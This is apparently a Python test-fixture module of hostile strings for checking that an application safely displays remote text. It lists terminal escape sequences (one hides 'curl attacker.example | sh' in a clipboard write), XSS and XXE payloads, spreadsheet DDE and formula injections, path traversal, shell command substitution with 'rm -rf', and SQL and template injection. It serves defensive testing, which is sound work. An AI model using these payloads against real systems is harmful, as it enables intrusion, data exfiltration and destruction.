"""Hostile remote texts by target, for tests of every place that shows remote text.

`ATTACKS` holds each text once. None attacks a particular program: they have the forms that
published vulnerabilities of terminals, mailers, browsers and spreadsheets have in common.
"""

from __future__ import annotations

from itertools import product

# characters that some programs treat as the end of a line
LINE_ENDS = ("\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")

_INJECTED = (
    "Bcc: everyone@attacker.example",
    "Content-Type: text/html\r\n\r\n<h1>hello</h1>",
    "2026-03-13T09:00:05Z critical NCT00000001 status -> TERMINATED",
    '{"nct_id":"NCT00000001","level":"critical"}',
)
NEW_LINES = tuple(
    f"A trial of aspirin{end}{injected}" for end, injected in product(LINE_ENDS, _INJECTED)
)

ENCODED_WORDS = (
    "=?utf-8?q?A_trial=0d=0aBcc:_everyone@attacker.example?=",
    "=?utf-8?b?QSB0cmlhbA0KQmNjOiBldmVyeW9uZUBhdHRhY2tlci5leGFtcGxl?=",
    "=?utf-8?q?=1b]0;title=07?=",
    "=?iso-8859-1?q?=00?=",
    "A trial =?utf-8?q?=0aSubject:_another?= of aspirin",
    "=?unknown-8bit?q?=ff=fe?=",
    "=?utf-8?q?unfinished",
)

TERMINAL = (
    "\x1b[31mcritical\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b[1A\x1b[2K0 changes",
    "\x1b[8mhidden\x1b[28m",
    "\x1b[?1049h",
    "\x1b[?25l",
    "\x1b[6n",
    "\x1b[c",
    "\x1b[>q",
    "\x1b[21t",
    "\x1b[20;1H\x1b[0J",
    "\x1b[1;1r",
    "\x1b[5i",
    "\x1b[999999999b",
    "\x1b]0;owned\x07",
    "\x1b]2;owned\x1b\\",
    "\x1b]8;;https://attacker.example\x1b\\NCT03389919\x1b]8;;\x1b\\",
    "\x1b]8;;file:///etc/passwd\x07open\x1b]8;;\x07",
    "\x1b]52;c;Y3VybCBhdHRhY2tlci5leGFtcGxlIHwgc2g=\x07",
    "\x1b]52;p;?\x1b\\",
    "\x1b]4;1;?\x07",
    "\x1b]10;?\x07",
    "\x1b]50;?\x07",
    "\x1b]9;notify\x07",
    "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1b]133;C\x07",
    '\x1bP$q"p\x1b\\',
    "\x1bP+q544e\x1b\\",
    "\x1bP1;1|17/0a\x1b\\",
    "\x1b_Gf=100;AAAA\x1b\\",
    "\x1b^private\x1b\\",
    "\x1bXstring\x1b\\",
    "\x1bc",
    "\x1b7\x1b8",
    "\x1b(0lqqk\x1b(B",
    "\x1b#8",
    "\x1bZ",
    "\x9b31mcritical",
    "\x9d0;owned\x9c",
    '\x90$q"p\x9c',
    "\x9b6n",
    "\x9e\x9c",
    "\x07\x07\x07",
    "\x08\x08\x08\x08done",
    "status RECRUITING\rstatus COMPLETED ",
    "\x0e\x0f",
    "\x7f\x7f",
    "\x05",
    "\x00",
    "NCT03389919\x00.html",
    "\x1a",
    "\x80\x84\x85\x8d",
)

TURNING = (
    "\u202eDETANIMRET\u202c",
    "\u202dforced\u202c",
    "\u2066isolate\u2069",
    "\u2067\u2066a\u2069\u2069",
    "\u2068first strong",
    "\u202a\u202b\u202c",
    "invoice_\u202efdp.exe",
    "enrollment 20 \u202e02\u202c",
    "\u200f\u200e",
    "\u061cmark",
    "/*\u202e } \u2066if (admin)\u2069 \u2066 begin */",
    "\u2069\u2069\u2069\u202c\u202c",
)

INVISIBLE = (
    "NCT\u200b03389919",
    "ter\u200dmi\u200cnated",
    "\ufeffBOM first",
    "soft\xadhyphen",
    "word\u2060joiner",
    "\u2061\u2062\u2063\u2064",
    "\u180emongolian",
    "blank\u3164filler",
    "\u115f\u1160",
    "half\uffa0width",
    "grapheme\u034fjoiner",
    "\U000e0041\U000e0042\U000e0043 tags",
    "\U000e0100 selector",
    "\ufff9annotated\ufffahidden\ufffb",
    "\U0001d173music\U0001d174",
    "\u206a\u206f",
)

NOT_TEXT = (
    "\ud800",
    "\udc80 from bytes",
    "\udfff\ud800",
    "\ufffe",
    "\uffff",
    "\ufdd0",
    "Z\u0301\u0302\u0303\u0304\u0305" + "\u0300" * 200,
    "A" * 10_000,
    "\n" * 1_000,
    "(" * 500,
)

MARKUP = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "&lt;b&gt;not bold&lt;/b&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "&NotAnEntity; &#x0; &#xffffffff;",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    '<?xml version="1.0"?>',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    '<a href="javascript:alert(1)">trial</a>',
    "[trial](javascript:alert(1))",
    "![](https://attacker.example/pixel.png)",
    "<https://attacker.example>",
    "`code` **bold** | cell | another |",
    "# heading\n\n- [x] done",
    "<details><summary>",
    "<style>*{display:none}</style>",
    "<base href=//attacker.example>",
    "<meta http-equiv=refresh content=0;url=//attacker.example>",
    "<form action=//attacker.example><input name=password>",
    "<plaintext>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "\x3cscript\x00>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
)

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://attacker.example?x="&A1,"trial")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML("https://attacker.example","//a")',
    '=WEBSERVICE("https://attacker.example")',
    '=DDE("cmd","/C calc","1")',
    " =1+1",
    "   @SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1',
    "'=1+1",
    '""=1+1',
    'a",=1+1,"b',
    "a;=1+1;b",
    "a\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\xa0=1+1",
    "\x00=1+1",
    "\u202e=1+1",
    "﹦1+1",
    "﹢1+1",
    "+1 555 0100",
    "-",
    "=",
    "-- none --",
    "\u201c=1+1",
)

PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "C:\\autoexec.bat",
    "\\\\attacker.example\\share",
    "CON",
    "nul.txt",
    "COM1",
    ".bashrc",
    "-rf",
    "a/b\x00c",
    "%2e%2e%2f",
    "~root",
    "$(id)",
    "`id`; rm -rf ~",
    "a" * 300,
    "...",
    "",
    " ",
    "trial.html:stream",
)

TEMPLATES = (
    "{0.__class__.__mro__}",
    "{settings.smtp.password}",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "%(password)s",
    "%s%s%s%n",
    "$password ${password}",
    "[bold red]critical[/] [link=https://attacker.example]trial[/link]",
    "[/]",
    "'; DROP TABLE snapshots; --",
    '" OR 1=1 --',
    "locations[Site | City].status",
    "a]b[c\"d'e.f",
)

ATTACKS: tuple[str, ...] = tuple(
    dict.fromkeys(
        NEW_LINES
        + ENCODED_WORDS
        + TERMINAL
        + TURNING
        + INVISIBLE
        + NOT_TEXT
        + MARKUP
        + FORMULAS
        + PATHS
        + TEMPLATES
    )
)
